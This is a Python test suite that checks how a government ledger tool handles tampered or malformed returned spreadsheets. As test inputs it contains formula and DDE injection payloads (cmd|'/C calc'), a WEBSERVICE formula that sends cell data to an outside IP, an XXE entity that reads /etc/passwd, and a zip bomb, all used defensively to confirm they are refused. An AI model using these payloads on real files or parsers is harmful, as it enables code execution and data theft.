"""Sheets edited with evil intent or by mistake: the records before and after, and the sentence that a person reads."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from docx import Document as WordDocument
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.formula import ArrayFormula
from returned_sheets import OTHER, OWN, fill, make_office, said

from govlib.ledger.identity import list_identities
from govlib.ledger.returned.notes import ALTERED, HINT, LEFT_OUT, is_incomplete
from govlib.ledger.sheets import ASKED, LOCKED

FIXED = {"整改情况": "已整改", "完成日期": date(2026, 4, 20)}
OWN_NUMBERS = {"2026Q1-0001", "2026Q1-0002", "2026Q1-0003"}
ALL_OWN = dict.fromkeys(sorted(OWN_NUMBERS), "已整改")


@pytest.fixture
def office(tmp_path):
    return make_office(tmp_path)


def filled(office, *edits, name=""):
    """Return the unit's sheet with all three numbers answered, then edited."""
    return fill(office.sheet(name=name), *((row, FIXED) for row in range(3)), *edits)


@pytest.mark.parametrize(
    "formula",
    [
        '="已整改"',
        '=HYPERLINK("http://198.51.100.1/","已整改")',
        "=cmd|'/C calc'!A0",
        '=WEBSERVICE("http://198.51.100.1/"&A5)',
        ArrayFormula("L5:L6", "=A5:A6"),
    ],
)
def test_a_formula_in_a_cell_to_be_filled_in_leaves_its_row_out(office, formula):
    found = office.take(filled(office, (0, {"整改措施": formula})))
    assert "2026Q1-0001" not in office.answers()
    assert office.answers()["2026Q1-0003"] == "已整改"
    assert "是公式，请直接写文字或日期" in said(found, LEFT_OUT)


def test_a_formula_whose_result_is_kept_is_still_a_formula(office):
    path = filled(office)
    with_result(path, "整改措施", b"<f>1+1</f><v>2</v>")
    found = office.take(path)
    assert "2026Q1-0001" not in office.answers()
    assert "是公式" in said(found, LEFT_OUT)


def test_a_formula_that_does_not_say_where_it_stands_is_found(office):
    path = filled(office)
    with_result(path, "整改措施", b"<f>1+1</f><v>2</v>", without_place=True)
    found = office.take(path)
    assert "2026Q1-0001" not in office.answers()
    assert is_incomplete(found.notes)


def with_result(path: Path, heading: str, inside: bytes, *, without_place: bool = False) -> None:
    """Write a formula into the first row of a column as Excel does, with the result that it had."""
    book = load_workbook(path)
    sheet = book["整改表"]
    row = next(cell.row for line in sheet.iter_rows() for cell in line if cell.value == "编号")
    column = next(cell.column_letter for cell in sheet[row] if cell.value == heading)
    place = f"{column}{row + 1}".encode()
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    name = next(name for name in members if name.endswith("sheet1.xml"))
    members[name], count = re.subn(
        rb'<c r="' + place + rb'"([^>]*?)(?:/>|>.*?</c>)',
        rb'<c r="' + place + rb'"\1>' + inside + rb"</c>",
        members[name],
    )
    assert count == 1
    if without_place:
        members[name] = re.sub(rb'(<c) r="[A-Z]+%d"' % (row + 1), rb"\1", members[name])
    with zipfile.ZipFile(path, "w") as archive:
        for member, data in members.items():
            archive.writestr(member, data)


@pytest.mark.parametrize(
    "text", ["=1+1", "＝SUM(A1)", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-cmd|x!A0"]
)
def test_a_text_that_a_spreadsheet_would_run_is_no_answer(office, text):
    def as_text(table):
        cell = table.sheet.cell(table.heading_row + 1, table.column("整改措施"))
        cell.value, cell.data_type = text, "s"

    found = office.take(filled(office, as_text))
    assert "2026Q1-0001" not in office.answers()
    assert "是公式" in said(found, LEFT_OUT)


@pytest.mark.parametrize("text", ["- 已换链接", "-已换链接（含附件）", "+86 号段的号码已删", "@各科室：已改"])
def test_a_text_that_only_begins_like_one_is_an_answer(office, text):
    office.take(filled(office, (0, {"整改措施": text})))
    assert office.answers() == ALL_OWN


def test_a_formula_in_a_locked_cell_is_told_and_the_answer_counts(office):
    found = office.take(filled(office, (0, {"证据": "=1+1"})))
    assert office.answers() == ALL_OWN
    assert "锁定的“证据”里有公式，不起作用" in said(found, ALTERED)


def test_a_number_that_is_a_formula_is_no_number(office):
    found = office.take(filled(office, (0, {"编号": '="2026Q1-0001"'})))
    assert set(office.answers()) == OWN_NUMBERS - {"2026Q1-0001"}
    assert "编号是公式" in said(found, LEFT_OUT)


def test_rows_that_were_moved_are_found_by_their_numbers(office):
    def turn_round(table):
        first = table.heading_row + 1
        rows = [[table.sheet.cell(first + row, column).value for column in range(1, 15)] for row in range(3)]
        for row, values in enumerate(reversed(rows)):
            for column, value in enumerate(values, 1):
                table.sheet.cell(first + row, column).value = value

    found = office.take(filled(office, (0, {"整改措施": "只在第一条"}), turn_round))
    assert office.answers() == ALL_OWN
    assert office.book["2026Q1-0001"].answer.measures == "只在第一条"
    assert not [note for note in found.notes if note.kind == ALTERED]


def test_columns_that_were_moved_are_found_by_their_headings(office):
    def move(table):
        table.sheet.move_range(f"A{table.heading_row}:N{table.heading_row + 3}", cols=3, rows=2)

    assert not is_incomplete(office.take(filled(office, move)).notes)
    assert office.answers() == ALL_OWN


@pytest.mark.parametrize("heading", [*LOCKED, *ASKED])
def test_a_renamed_column_refuses_the_file_by_its_name(office, heading):
    def rename(table):
        table.sheet.cell(table.heading_row, table.column(heading)).value = "别的"

    before = office.acts
    found = office.take(filled(office, rename))
    assert office.acts == before
    assert f"没有名为“{heading}”的列，多出了“别的”" in said(found, LEFT_OUT)


def test_a_column_that_stands_twice_refuses_the_file(office):
    def double(table):
        table.sheet.cell(table.heading_row, 20).value = "整改情况"

    found = office.take(filled(office, double))
    assert office.answers() == {}
    assert "名为“整改情况”的列不止一个" in said(found, LEFT_OUT)


def test_a_column_too_many_is_told_and_not_read(office):
    def add(table):
        table.sheet.cell(table.heading_row, 20).value = "领导批示"

    assert "多出来的列“领导批示”没有读" in said(office.take(filled(office, add)), HINT)
    assert office.answers() == ALL_OWN


def test_a_number_twice_with_the_same_answer_counts_once(office):
    found = office.take(filled(office, (1, {"编号": "2026Q1-0001"})))
    assert set(office.answers()) == {"2026Q1-0001", "2026Q1-0003"}
    assert "出现 2 次（第 5、6 行），填的一样，只算一次" in said(found, HINT)
    assert "缺 1 个编号：2026Q1-0002" in said(found, HINT)


def test_a_number_twice_with_different_answers_counts_not_at_all(office):
    found = office.take(filled(office, (1, {"编号": "2026Q1-0001", "整改情况": "未整改", "完成日期": None})))
    assert set(office.answers()) == {"2026Q1-0003"}
    assert "填的不一样，都没有采用" in said(found, LEFT_OUT)


def test_another_units_number_is_not_touched(office):
    found = office.take(filled(office, (0, {"编号": "2026Q1-0004"})))
    assert set(office.answers()) == {"2026Q1-0002", "2026Q1-0003"}
    assert f"编号 2026Q1-0004 不是{OWN}的，没有采用" in said(found, LEFT_OUT)


@pytest.mark.parametrize("written", ["2026Q1-9999", "甲乙丙", "2025Q4-0001", "W-V3:第1网:", "2026Q1-1"])
def test_an_invented_number_is_not_used(office, written):
    found = office.take(filled(office, (0, {"编号": written})))
    assert set(office.answers()) == {"2026Q1-0002", "2026Q1-0003"}
    assert f"没有编号“{written}”" in said(found, LEFT_OUT)


@pytest.mark.parametrize(
    "written",
    ["２０２６Ｑ１－０００１", " 2026Q1 - 0001 ", "2026q1-0001", "2026Q1—0001", "2026Q1-\n0001", "\u200b2026Q1-0001"],
)
def test_a_number_typed_again_in_another_way_is_the_same_number(office, written):
    office.take(filled(office, (0, {"编号": written})))
    assert office.answers() == ALL_OWN


def test_an_added_row_with_an_invented_number_and_one_without_are_told(office):
    found = office.take(filled(office, (3, {"编号": "2026Q1-0006", **FIXED}), (4, {"问题": "新问题", **FIXED})))
    assert office.answers() == ALL_OWN
    assert "没有编号“2026Q1-0006”" in said(found, LEFT_OUT)
    assert "这一行没有编号，没有采用" in said(found, LEFT_OUT)


def test_deleted_rows_are_told(office):
    found = office.take(filled(office, lambda table: table.sheet.delete_rows(table.heading_row + 2, 2)))
    assert office.answers() == {"2026Q1-0001": "已整改"}
    assert "缺 2 个编号：2026Q1-0002、2026Q1-0003，算没有回复" in said(found, HINT)


def test_hidden_rows_are_read_and_told(office):
    def hide(table):
        table.sheet.row_dimensions[table.heading_row + 1].hidden = True

    assert "有 1 个隐藏的行，照样读了" in said(office.take(filled(office, hide)), HINT)
    assert office.answers() == ALL_OWN


def test_merged_rows_are_not_guessed_at(office):
    def merge(table):
        first = table.heading_row + 1
        table.sheet.merge_cells(start_row=first, end_row=first + 1, start_column=9, end_column=9)

    found = office.take(filled(office, merge))
    assert office.answers() == {"2026Q1-0003": "已整改"}
    assert "有合并的单元格，不知道填的是哪一条" in said(found, LEFT_OUT)


def test_other_sheets_are_told_and_not_read(office):
    path = filled(office)
    book = load_workbook(path)
    book.create_sheet("说说", 0).append(["编号", "整改情况"])
    book.save(path)
    assert "这张工作表不是整改表，没有读" in said(office.take(path), HINT)
    assert office.answers() == ALL_OWN


def test_a_copy_of_the_sheet_in_the_same_file_counts_as_the_same_numbers(office):
    path = filled(office)
    book = load_workbook(path)
    copy = book.copy_worksheet(book["整改表"])
    copy["I5"] = "未整改"
    book.save(path)
    found = office.take(path)
    assert "2026Q1-0001" not in office.answers()
    assert "填的不一样，都没有采用" in said(found, LEFT_OUT)


def test_a_retyped_unit_above_the_table_is_told_and_the_code_decides(office):
    def retype(table):
        table.sheet.cell(2, 1).value = str(table.sheet.cell(2, 1).value).replace(OWN, OTHER)

    found = office.take(filled(office, (0, {"编号": "2026Q1-0004"}), retype))
    assert set(office.answers()) == {"2026Q1-0002", "2026Q1-0003"}
    assert "表头的单位、日期、期或表号被改动" in said(found, ALTERED)


def test_the_code_of_another_unit_beside_the_own_refuses_the_file(office):
    codes = {one.unit: code for code, one in list_identities("jia", office.acts).items()}

    def retype(table):
        table.sheet.cell(2, 1).value = f"责任单位：{OTHER} 表号：{codes[OTHER]}"

    before = office.acts
    found = office.take(filled(office, retype))
    assert office.acts == before
    assert "写着几个不同的表号" in said(found, LEFT_OUT)


def test_an_invented_code_refuses_the_file(office):
    def retype(table):
        table.sheet.cell(2, 1).value = "表号：0123456789abcdef"
        table.sheet.parent.remove(table.sheet.parent["识别"])

    found = office.take(filled(office, retype))
    assert office.answers() == {}
    assert "表号 0123456789abcdef 不是甲县下发的" in said(found, LEFT_OUT)


def test_a_units_sheet_with_the_code_of_the_ledger_is_refused(office):
    codes = {one.unit: code for code, one in list_identities("jia", office.acts).items()}

    def retype(table):
        table.sheet.cell(2, 1).value = f"表号：{codes['']}"
        table.sheet.parent.remove(table.sheet.parent["识别"])

    assert "与这张表的样子不符" in said(office.take(filled(office, retype)), LEFT_OUT)
    assert office.answers() == {}


def test_a_units_sheet_can_neither_recheck_nor_close(office):
    def become_ledger(table):
        for column, heading in enumerate(("复查结果", "复查日期", "销号", "销号日期"), 20):
            table.sheet.cell(table.heading_row, column).value = heading
            table.sheet.cell(table.heading_row + 1, column).value = "是" if "销" in heading else "已整改"

    office.take(filled(office, become_ledger))
    assert all(known.closed is None and not known.results for known in office.book.values())


def bomb(path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (200 * 2**20))


def word(path):
    document = WordDocument()
    document.add_paragraph("编号 整改情况")
    document.save(str(path))


def cut(path):
    path.write_bytes(path.read_bytes()[:2000])


def entity(path):
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    name = "xl/worksheets/sheet1.xml"
    members[name] = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + members[name]
    with zipfile.ZipFile(path, "w") as archive:
        for member, data in members.items():
            archive.writestr(member, data)


@pytest.mark.parametrize(
    ("spoil", "sentence"),
    [
        (bomb, "异常庞大"),
        (word, "Word 文档"),
        (cut, "损坏或不完整"),
        (entity, "DOCTYPE"),
        (lambda path: path.write_bytes(b""), "文件是空的"),
        (lambda path: path.write_bytes(b"%PDF-1.7"), "PDF"),
        (lambda path: path.write_bytes(b"<html><table><tr><td>x</td></tr></table></html>"), "网页"),
        (lambda path: path.write_bytes(b"x" * (21 * 2**20)), "太大"),
        (lambda path: path.write_text("甲,乙\n1,2\n", encoding="utf-8"), "没有找到整改表"),
        (Path.unlink, "没有这个文件"),
    ],
)
def test_a_file_that_is_no_sheet_is_refused_and_the_others_count(office, spoil, sentence):
    path = filled(office, name="坏.xlsx")
    spoil(path)
    found = office.take(path, filled(office, name="好.xlsx"))
    assert office.answers() == ALL_OWN
    assert sentence in said(found, LEFT_OUT)
    assert "整个文件没有采用" in said(found, LEFT_OUT)
    assert [file.name for file in (office.root / "records").rglob("*") if "坏" in file.name] == []


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_a_csv_that_excel_saved_is_read(office, encoding):
    path = filled(office)
    text = io.StringIO()
    sheet = load_workbook(path)["整改表"]
    for row in sheet.iter_rows(values_only=True):
        csv.writer(text).writerow(
            [value.strftime("%Y/%m/%d") if isinstance(value, datetime) else value for value in row]
        )
    saved = path.with_suffix(".csv")
    saved.write_bytes(text.getvalue().encode(encoding))
    found = office.take(saved)
    assert office.answers() == ALL_OWN
    assert not is_incomplete(found.notes)


@pytest.fixture(scope="module")
def converted(tmp_path_factory):
    """Return the filled sheet as LibreOffice saves it, by ending, with the office that sent it."""
    office = make_office(tmp_path_factory.mktemp("office"))
    path = filled(office, (1, {"整改措施": "=1+1"}))
    profile = tmp_path_factory.mktemp("profile").as_uri()
    found = {}
    for ending in ("ods", "xls", "xlsx"):
        out = tmp_path_factory.mktemp(ending)
        command = [
            "soffice",
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            ending,
            "--outdir",
            out,
            path,
        ]
        subprocess.run(command, check=True, capture_output=True, timeout=120)
        found[ending] = out / f"{OWN}.{ending}"
    return found


@pytest.mark.office
@pytest.mark.parametrize("ending", ["ods", "xls", "xlsx"])
def test_what_libreoffice_saves_is_read_the_same(office, converted, ending):
    found = office.take(converted[ending])
    assert set(office.answers()) == {"2026Q1-0001", "2026Q1-0003"}
    assert "是公式" in said(found, LEFT_OUT)
    assert office.book["2026Q1-0003"].answer.fixed_on == "2026-04-20"
    assert [note for note in found.notes if note.kind == ALTERED] == []


CELLS = st.tuples(
    st.integers(-4, 5),
    st.sampled_from([*LOCKED, *ASKED]),
    st.one_of(
        st.sampled_from(
            ["2026Q1-0004", "2026Q1-0005", "2026Q1-0001", "2026Q1-0003", OTHER, "已整改", "未整改", "=1+1", "销号", "",
             None, date(2026, 4, 21), "表号：0123456789abcdef", "编号", "复查结果"]
        ),
        st.text(max_size=12),
        st.integers(-10, 10**9),
    ),
)  # fmt: skip


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(edits=st.lists(CELLS, min_size=1, max_size=8), update=st.booleans())
def test_no_edits_change_anything_but_the_answers_of_the_units_own_numbers(tmp_path_factory, edits, update):
    office = make_office(tmp_path_factory.mktemp("evil"))
    before = office.book

    def edit(table):
        row_of_headings, columns = table.heading_row, {name: table.column(name) for name in (*LOCKED, *ASKED)}
        for row, heading, value in edits:
            cell = table.sheet.cell(max(row_of_headings + 1 + row, 1), columns[heading])
            if type(cell).__name__ == "Cell":
                cell.value = "".join(char for char in value if char >= " ") if isinstance(value, str) else value

    office.take(filled(office, edit), update=update)
    after = office.book
    assert list(after) == list(before)
    for number, known in after.items():
        assert known.tellings == before[number].tellings
        assert known.results == []
        assert known.closed is None
        if number not in OWN_NUMBERS:
            assert known.answer == before[number].answer
